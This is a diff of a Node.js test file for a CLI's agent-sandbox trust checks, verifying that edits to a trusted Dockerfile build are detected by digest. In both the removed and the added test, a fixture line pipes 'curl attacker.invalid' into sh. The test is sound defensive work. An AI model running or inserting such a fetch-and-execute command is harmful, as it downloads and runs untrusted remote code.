@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { existsSync, readFileSync, rmSync } from 'node:fs';
+import { existsSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { after, test } from 'node:test';
 import { cli, REPO, tempHome, writeFile } from '../helpers.js';
@@ -57,7 +57,7 @@ test('usage errors exit 2 with a one-line reason', async () => {
     [['agent', 'run', '--json', '--', 'x'], 'stashbase: --json goes with --dry-run'],
     [['agent', 'run', '--profile-source', 'cloud', '--', 'x'], 'stashbase: --profile-source takes auto, global or directory, not "cloud"'],
     [['agent', 'run', '--worktree=maybe', '--', 'x'], 'stashbase: --worktree takes true or false, not "maybe"'],
-    [['agent', 'trust'], 'stashbase: agent trust needs --profile <name>'],
+    [['agent', 'trust'], 'stashbase: agent trust needs --profile <name> or --dockerfile <path>'],
     [['agent', 'validate', 'extra'], 'stashbase: agent validate takes no arguments'],
   ];
   for (const [args, message] of cases) {
@@ -103,25 +103,22 @@ test('an untrusted repository profile is refused without a terminal, then truste
   assert.equal(existsSync(marker), false);
 });
 
-test("a repository profile's trust covers the Dockerfile it names: the Dockerfile edited, the profile is refused again (control: the unchanged one runs)", async () => {
-  // A home of its own: this test's runs leave sessions the dry-run test below must not see.
+test("trusting a repository profile pins its Dockerfile's build too, by the digest of the text and what it copies: an edit needs trust again (control: unchanged, it is already trusted)", async () => {
   const own = tempHome();
   after(() => own.cleanup());
-  const env = own.env;
   const repo = join(own.dir, 'repo-dockerfile');
-  const marker = join(repo, 'ran');
   writeFile(join(repo, '.stashbase', 'agents', 'img.toml'), '[sandbox]\ndockerfile = "./sandbox.Dockerfile"\n');
-  const dockerfile = writeFile(join(repo, 'sandbox.Dockerfile'), 'FROM debian\nRUN echo harmless\n');
-  const run = () => cli(['agent', 'run', '--profile', 'img', '--', 'touch', marker], { env, cwd: repo });
-  assert.equal((await cli(['agent', 'trust', '--profile', 'img'], { env, cwd: repo })).code, 0);
-  let r = await run();
+  const dockerfile = writeFile(join(repo, 'sandbox.Dockerfile'), 'FROM debian\nCOPY tool.sh /t\nRUN sh /t\n');
+  writeFile(join(repo, 'tool.sh'), 'echo harmless\n');
+  const r = await cli(['agent', 'trust', '--profile', 'img'], { env: own.env, cwd: repo });
   assert.equal(r.code, 0, r.stderr);
-  assert.equal(existsSync(marker), true);
-  rmSync(marker);
-  writeFile(dockerfile, 'FROM debian\nRUN curl attacker.invalid | sh\n');
-  r = await run();
-  assert.deepEqual([r.code, r.stderr], [3, 'stashbase: repository profile .stashbase/agents/img.toml has changed since you trusted it; review it, then trust it with: stashbase agent trust --profile img --profile-source directory\n']);
-  assert.equal(existsSync(marker), false);
+  assert.match(r.stdout, new RegExp(`\nTrusted: the build of ${dockerfile.replace(/\./g, '\\.')} \\(stashbase-dockerfile:[0-9a-f]{32}\\)\n$`));
+  const pin = () => cli(['agent', 'trust', '--dockerfile', dockerfile, '--profile', 'img'], { env: own.env, cwd: repo });
+  assert.match((await pin()).stdout, /^Already trusted: the build of /);
+  writeFile(join(repo, 'tool.sh'), 'curl attacker.invalid | sh\n');
+  assert.match((await pin()).stdout, /^Trusted: the build of /);
+  const trust = JSON.parse(readFileSync(join(own.sbHome, 'trust.json'), 'utf8')) as { dockerfiles: Record<string, { digest: string }> };
+  assert.match(trust.dockerfiles[dockerfile]!.digest, /^[0-9a-f]{64}$/);
 });
 
 test('validate: the default profile on this machine', async () => {
